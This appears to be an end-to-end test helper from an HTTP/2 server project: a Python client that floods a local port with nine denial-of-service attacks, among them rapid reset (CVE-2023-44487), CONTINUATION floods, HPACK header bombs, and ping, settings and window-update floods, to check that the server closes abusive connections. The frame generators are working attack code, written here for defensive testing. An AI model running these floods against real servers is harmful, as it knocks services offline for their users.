"""``python -m tests.e2e.http2_attacker PORT ATTACK once|always``: a client of HTTP/2 that does what it must not.

It says ``begins``, and ``lost`` each time when the gate has closed its connection; and ends then, or goes on over
another. It has a process of its own, so that what it costs to attack is not taken for what it costs to be attacked.
"""

from __future__ import annotations

import asyncio
import contextlib
import sys
from collections.abc import AsyncIterator, Callable

from hpack import Encoder

from tests.http2_peers import frame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
#: What it asks for has a server of its own.
HEAD = [(b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"attacked.example"), (b":path", b"/")]


async def resets() -> AsyncIterator[bytes]:
    """Rapid reset (CVE-2023-44487)."""
    encoder = Encoder()
    for stream in range(1, 20_000, 20):
        yield b"".join(
            frame(1, 5, one, encoder.encode(HEAD)) + frame(3, 0, one, b"\x00\x00\x00\x08")
            for one in range(stream, stream + 20, 2)
        )


async def continuations() -> AsyncIterator[bytes]:
    """A field section without an end (VU#421644)."""
    yield frame(1, 0, 1, Encoder().encode(HEAD))
    for _ in range(10_000):
        yield frame(9, 0, 1, b"\x00\x03x-a\x01b" * 100)


def _bomb() -> tuple[bytes, bytes]:
    encoder = Encoder()
    first = encoder.encode([*HEAD, (b"x-bomb", b"a" * 3500)])
    return frame(1, 5, 1, first), encoder.encode([*HEAD, *([(b"x-bomb", b"a" * 3500)] * 500)])


async def bombs() -> AsyncIterator[bytes]:
    """Few octets that stand for many fields."""
    first, again = _bomb()
    yield first
    for stream in range(3, 10_000, 2):
        yield frame(1, 5, stream, again)


async def long_fields() -> AsyncIterator[bytes]:
    """Requests with fields as long as may be, coded so that they are hard to read."""
    section = Encoder().encode([*HEAD, *((b"x-%d" % number, b"aZ~" * 900) for number in range(10))])
    for stream in range(1, 10_000, 2):
        yield frame(1, 1, stream, section[:16000]) + frame(9, 4, stream, section[16000:])


async def pings() -> AsyncIterator[bytes]:
    """Pings without end."""
    for _ in range(10_000):
        yield frame(6, 0, 0, bytes(8)) * 20


async def settings() -> AsyncIterator[bytes]:
    """Settings without end."""
    for _ in range(10_000):
        yield frame(4, 0, 0, b"\x00\x03\x00\x00\x00\x64")


async def empty_frames() -> AsyncIterator[bytes]:
    """A body of nothing."""
    yield frame(1, 4, 1, Encoder().encode([(b":method", b"POST"), *HEAD[1:]]))
    for _ in range(10_000):
        yield frame(0, 0, 1) * 20


async def drips() -> AsyncIterator[bytes]:
    """Windows that open by an octet."""
    yield frame(4, 0, 0, b"\x00\x04\x00\x00\x00\x00") + frame(
        1, 5, 1, Encoder().encode([*HEAD[:3], (b":path", b"/big")])
    )
    for _ in range(10_000):
        yield frame(8, 0, 1, b"\x00\x00\x00\x01") * 20


async def unread() -> AsyncIterator[bytes]:
    """Long answers that nobody lets through, as many as may be asked for at once."""
    encoder = Encoder()
    fields = [*HEAD[:3], (b":path", b"/big")]
    for stream in range(1, 500, 2):
        yield frame(1, 5, stream, encoder.encode(fields))
    while True:
        await asyncio.sleep(0.05)
        yield frame(0xAA, 0, 0)


#: Each attack, and how many of its shots there are in a second where that is measured.
ATTACKS: dict[str, tuple[Callable[[], AsyncIterator[bytes]], float]] = {
    "resets": (resets, 50),
    "continuations": (continuations, 200),
    "bombs": (bombs, 200),
    "long fields": (long_fields, 50),
    "pings": (pings, 50),
    "settings": (settings, 50),
    "empty frames": (empty_frames, 50),
    "window updates": (drips, 50),
    "unread answers": (unread, 200),
}


async def attack(port: int, shots: AsyncIterator[bytes], pause: float) -> None:
    """Attack over one connection, until the gate closes it."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    over = asyncio.ensure_future(drain(reader))
    try:
        with contextlib.suppress(ConnectionError):
            writer.write(PREFACE)
            async for shot in shots:
                if over.done():
                    break
                writer.write(shot)
                await writer.drain()
                await asyncio.sleep(pause)
        await over
    finally:
        writer.close()
    print("lost", flush=True)


async def drain(reader: asyncio.StreamReader) -> None:
    """Read, and throw away, all that comes."""
    with contextlib.suppress(ConnectionError):
        while await reader.read(65536):
            pass


async def main(port: int, name: str, how: str) -> None:
    """Attack once, as fast as it goes, or again and again."""
    shots, a_second = ATTACKS[name]
    print("begins", flush=True)
    if how == "once":
        await attack(port, shots(), 0)
        return
    while True:
        with contextlib.suppress(ConnectionError):
            await attack(port, shots(), 1 / a_second)
        await asyncio.sleep(0.05)


if __name__ == "__main__":
    asyncio.run(main(int(sys.argv[1]), sys.argv[2], sys.argv[3]))
